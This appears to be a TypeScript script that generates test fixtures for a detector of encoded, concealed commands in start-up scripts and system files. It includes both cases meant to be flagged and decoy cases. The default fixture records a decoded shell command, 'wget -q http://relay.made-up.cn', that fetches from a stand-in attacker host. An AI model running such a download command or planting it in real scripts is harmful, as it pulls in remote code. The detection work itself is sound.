// node examples/examine/encoded-command/make.ts: writes the inputs of the examiner of encoded scripts.
import type { EncodedObservation } from '#domain/observed-concealment';
import { seenIn, writeSights } from '../../sightings.ts';

const encoded = (path: string, facts: Partial<EncodedObservation>) =>
  seenIn(path, { kind: 'encoded', layers: ['base64'], size: 100, holds: 'shell script', says: ['wget -q http://relay.made-up.cn'], run: true, ...facts });

writeSights(import.meta.dirname, {
  'run-and-kept': {
    note: 'Commands that are decoded and run by a script of start-up, a program that is only kept, an address that is run.',
    sightings: [
      encoded('etc/init.d/S1', {}),
      seenIn('etc/init.d/S1', { kind: 'start', by: 'rc', program: 'sh', arguments: [], user: null, chain: ['etc/inittab', 'etc/init.d/S1'], condition: null, reached: true, present: true }),
      encoded('usr/bin/x.sh', { holds: 'elf', layers: ['base64', 'gzip'], says: ['a program of 4000 bytes'], run: false }),
      encoded('usr/bin/y.sh', { holds: 'address', layers: ['hex', 'xor 0x5a'], says: ['45.33.32.156'] }),
    ],
  },
  'look-alikes': {
    note: 'A text that is run under one layer, an address that is kept, characters written as escapes, documentation, tests.',
    sightings: [
      encoded('usr/bin/a.sh', { holds: 'text', says: [] }),
      encoded('usr/bin/a.sh', { holds: 'address', says: ['http://made-up.cn'], run: false }),
      encoded('usr/bin/b.sh', { holds: 'address', layers: ['escapes'], says: ['http://made-up.cn'], run: false }),
      encoded('usr/share/doc/x.sh', {}),
      encoded('usr/lib/python3/base64.py', {}),
      encoded('content', {}),
    ],
  },
  nothing: { note: 'Nothing encoded.', sightings: [] },
});
